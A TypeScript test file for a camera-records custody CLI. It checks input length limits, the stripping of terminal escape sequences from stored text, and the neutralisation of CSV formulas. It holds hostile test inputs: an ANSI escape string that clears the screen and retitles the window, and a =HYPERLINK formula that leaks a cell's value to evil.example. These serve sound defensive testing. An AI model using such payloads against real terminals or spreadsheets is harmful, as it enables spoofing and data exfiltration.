/**
 * Input and output hygiene (issue 18): the text people type has limits, checked before log-in;
 * text from the ledger never drives the terminal; CSV cannot carry a formula; the log-in
 * reminders print once, start `Overdue:` or `Due:`, and go only to the roles that can act.
 */
import fs from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { cellText, csv, csvCell, terminalSafe } from '../../src/cli/render.js';
import { checkText, SHORT_MAX, textLimit } from '../../src/core/text.js';
import { manualClock } from '../../src/core/time.js';
import { openSession } from '../../src/ledger/session.js';
import { addCamera } from '../../src/operations/cameras.js';
import { operatorAdd, operatorTrain } from '../../src/operations/operators.js';
import { recordRequest } from '../../src/operations/requests.js';
import { recordAccess } from '../../src/ledger/access.js';
import {
  ECSO_AGENCY_ADD,
  INIT_ARGS,
  newTestHome,
  PASSWORD,
  passwordFileFor,
  run,
  scriptedPrompts,
  type TestHome,
} from '../helpers/cli.js';

const clock = manualClock('2026-11-20T10:00:00-08:00');
/** Clear the screen, set the window title, move the cursor, ring the bell; an 8-bit CSI; a bidi override. */
const HOSTILE = '\u001b[2J\u001b]0;pwned\u0007\u001b[H\u0007Main\u009b31m St\u202e';
let t: TestHome;

const ok = async (args: string[], env = t.env) => {
  const r = await run(args, { env, clock });
  expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBe(0);
  return r;
};
/** Nothing a terminal would act on: no ESC, BEL, 8-bit CSI or bidi override. */
const terminalClean = (s: string) => expect(s).not.toMatch(/[\u0007\u001b\u009b\u202e]/);

async function asCustodian<T>(fn: (s: Awaited<ReturnType<typeof openSession>>) => Promise<T> | T): Promise<T> {
  const s = await openSession({
    homeDir: t.home,
    credentials: { username: 'asd', password: PASSWORD },
    clock,
    command: 'test',
  });
  try {
    return await fn(s);
  } finally {
    s.close();
  }
}

beforeAll(async () => {
  t = newTestHome();
  await ok(INIT_ARGS);
  await ok(ECSO_AGENCY_ADD);
  // Text stored before any limit existed (or by a careless script): escape sequences in a
  // camera's place, an operator's name and a request's officer.
  await asCustodian(async (s) => {
    addCamera(s, { id: 'CAM-01', location: HOSTILE, description: `lens\r\nfogged${HOSTILE}` });
    await operatorAdd(s, { username: 'eve', displayName: `Eve ${HOSTILE}`, role: 'auditor', password: PASSWORD });
    operatorTrain(s, { username: 'eve', date: '2026-11-01', course: `ALPR ${HOSTILE}`, trainer: 'Pat' });
    recordRequest(s, {
      agency: 'ECSO',
      officer: `Det. ${HOSTILE}`,
      badge: '1182',
      caseNumber: 'C-1',
      purpose: 'criminal investigation',
      receivedAt: '2026-11-20T09:00:00.000-08:00',
      document: { reference: `ref ${HOSTILE}` },
      kind: 'cameras',
      cameras: ['CAM-01'],
      from: '2026-11-01T00:00:00.000-07:00',
      to: '2026-11-02T23:59:59.999-08:00',
    });
  });
}, 120_000);

describe('input limits', () => {
  it('refuses a 100,000-character officer at once, before log-in, in one line (exit 2)', async () => {
    const huge = 'A'.repeat(100_000);
    // No home at all: the length is refused before anything is opened.
    const nowhere = { ...t.env, CUSTODY_HOME: path.join(t.dir, 'no-such-home') };
    const r = await run(
      ['request', 'new', '--agency', 'ECSO', '--officer', huge, '--badge', '1', '--case', 'C', '--document-ref', 'x'],
      { env: nowhere, clock },
    );
    expect(r.code).toBe(2);
    expect(r.stderr.split('\n')[0]).toBe('custody: --officer is too long: 100,000 characters, at most 200.');
    expect(r.stderr.length).toBeLessThan(300);
  });

  it('checks every flag and argument, the global ones too, and refuses control characters', async () => {
    const cases: [string[], RegExp][] = [
      [['camera', 'add', 'CAM-09', '--location', 'x'.repeat(201)], /--location is too long: 201 characters/],
      [
        ['camera', 'add', 'CAM-09', '--location', `Main ${'\u001b'}[2J`],
        /--location holds a control character \(U\+001B\) at position 6/,
      ],
      [['camera', 'add', 'C'.repeat(300), '--location', 'x'], /the id is too long: 300 characters/],
      [['problem', 'add', '--camera', 'CAM-01', '--description', 'y'.repeat(1001)], /--description is too long: 1,001/],
      [['operator', 'list', '--user', 'u'.repeat(500)], /--user is too long/],
      [['audit', '--case', 'c\u202ed'], /--case holds a control character \(U\+202E\)/],
    ];
    for (const [args, message] of cases) {
      const r = await run(args, { env: t.env, clock });
      expect(r.code, args.join(' ')).toBe(2);
      expect(r.stderr).toMatch(message);
    }
    // Nothing was recorded by any of them.
    const cams = JSON.parse((await ok(['camera', 'list', '--json'])).stdout) as { id: string }[];
    expect(cams.map((c) => c.id)).toEqual(['CAM-01']);
    // A long paragraph fits where paragraphs go; a path may be long; a line break only in a paragraph.
    expect(() => checkText('--what-happened', `${'w'.repeat(3000)}\nsecond line`)).not.toThrow();
    expect(() => checkText('--out', `/tmp/${'d/'.repeat(600)}`)).not.toThrow();
    expect(() => checkText('--officer', 'Det.\nReyes')).toThrow(/control character \(U\+000A\)/);
    expect(textLimit('--badge')).toBe(SHORT_MAX);
  });

  it('asks again on a terminal when an answer is too long', async () => {
    const prompts = scriptedPrompts(['L'.repeat(250), 'Main St & 3rd']);
    const r = await run(['camera', 'add', 'CAM-02'], { env: t.env, clock, prompts, isTTY: true });
    expect(r.code, r.stderr).toBe(0);
    expect(prompts.asked).toEqual(['Location:', 'Location:']);
    expect(r.stderr).toMatch(/--location is too long: 250 characters, at most 200/);
  });
});

describe('stored text reaches the terminal without its escape sequences', () => {
  it('camera show and list, operator list and show, request show and list, log', async () => {
    for (const args of [
      ['camera', 'show', 'CAM-01'],
      ['camera', 'list'],
      ['operator', 'list'],
      ['operator', 'show', 'eve'],
      ['request', 'show', 'REQ-2026-0001'],
      ['request', 'list'],
      ['log'],
    ]) {
      const r = await ok(args);
      terminalClean(r.stdout);
      terminalClean(r.stderr);
      if (!['log', 'request list'].includes(args.slice(0, 2).join(' ')))
        expect(r.stdout, args.join(' ')).toContain('Main St');
    }
    const show = (await ok(['camera', 'show', 'CAM-01'])).stdout;
    // The text is kept, only the escapes go; a line break in a value does not start a new line.
    expect(show).toContain('lens fogged');
    expect(show).not.toContain('pwned');
    // --json keeps the exact value, with every control character escaped.
    const j = await ok(['camera', 'show', 'CAM-01', '--json']);
    terminalClean(j.stdout);
    expect((JSON.parse(j.stdout) as { location: string }).location).toBe(HOSTILE);
  });

  it('terminalSafe keeps custody’s own colours and line breaks, nothing else', () => {
    expect(terminalSafe('\u001b[31mFAILED\u001b[39m\n')).toBe('\u001b[31mFAILED\u001b[39m\n');
    expect(terminalSafe(`a${HOSTILE}b`)).toBe('aMain Stb');
    expect(terminalSafe('x\u001b]2;title\u001b\\y\u001bPq#0\u001b\\z')).toBe('xyz');
    expect(cellText('one\ntwo\tthree\r')).toBe('one two three ');
  });
});

describe('CSV', () => {
  it('neutralises formulas and quotes what needs quoting', () => {
    expect(csvCell('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell('\rx')).toBe(`"'\rx"`);
    expect(csvCell('a\rb')).toBe('"a\rb"');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell(7)).toBe('7');
    expect(csvCell(null)).toBe('');
    expect(csv(['a', 'b'], [['x', '=1']])).toBe("a,b\nx,'=1\n");
  });

  it('audit --csv writes a search for =HYPERLINK( as text', async () => {
    // An auditor's view of the access record: the query is what an operator typed.
    await asCustodian((s) =>
      recordAccess(
        s,
        'search',
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        { purpose: 'criminal investigation', caseRef: '-26-1\r@x', requestId: null },
        0,
      ),
    );
    const r = await ok(['audit', '--csv']);
    const body = r.stdout.split('\n').slice(1).join('\n');
    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(body).toContain(`"'-26-1\r@x"`);
    // No cell starts with a formula character.
    expect(body.replace(/"[^"]*(?:""[^"]*)*"/g, 'Q')).not.toMatch(/(^|,)[=+\-@]/m);
  });
});

describe('log-in reminders', () => {
  it('print once per command, start Overdue: or Due:, and only to roles that can act', async () => {
    // A breach with unmet duties (the custodian's), and no health check for two months.
    await ok([
      'breach',
      'open',
      '--discovered',
      '2026-11-18',
      '--occurred',
      '2026-11-10',
      '--what-happened',
      'A drive was lost.',
      '--information',
      'Images.',
      '--information-type',
      'Images of vehicles',
      '--doing',
      'Looking for it.',
      '--phone',
      '(555) 010-0199',
      '--delayed',
      'no',
    ]);
    clock.set('2027-01-25T10:00:00-08:00');
    const reminders = (stderr: string) => stderr.split('\n').filter((l) => /^(Overdue|Due|Breach|Swap)\b/.test(l));

    const custodian = await ok(['request', 'list']);
    const lines = reminders(custodian.stderr);
    expect(
      lines.every((l) => /^(Overdue|Due): /.test(l)),
      lines.join('\n'),
    ).toBe(true);
    expect(lines.filter((l) => l.startsWith('Overdue: breach B1 '))).toHaveLength(1);
    expect(lines.filter((l) => /No health check|health check is due/.test(l))).toHaveLength(1);
    expect(lines).toHaveLength(2);

    // A designee: the health check is theirs too; the breach duties are the custodian's.
    await ok([
      'operator',
      'add',
      'dee',
      '--name',
      'Dee Designee',
      '--role',
      'designee',
      '--new-password-file',
      t.passwordFile,
    ]);
    await ok(['operator', 'train', 'dee', '--date', '2027-01-04', '--course', 'ALPR', '--trainer', 'Pat']);
    const designee = reminders((await ok(['request', 'list'], passwordFileFor(t, 'dee'))).stderr);
    expect(designee).toHaveLength(1);
    expect(designee[0]).toMatch(/^Overdue: .*health check/);

    // The auditor eve: told of nothing she cannot do (no purge, no breach duty).
    const auditor = await ok(['audit'], passwordFileFor(t, 'eve'));
    expect(reminders(auditor.stderr).join('\n')).not.toMatch(/purge|breach|wipe/i);
    fs.rmSync(path.join(t.dir, 'dee.pw'), { force: true });
  });
});
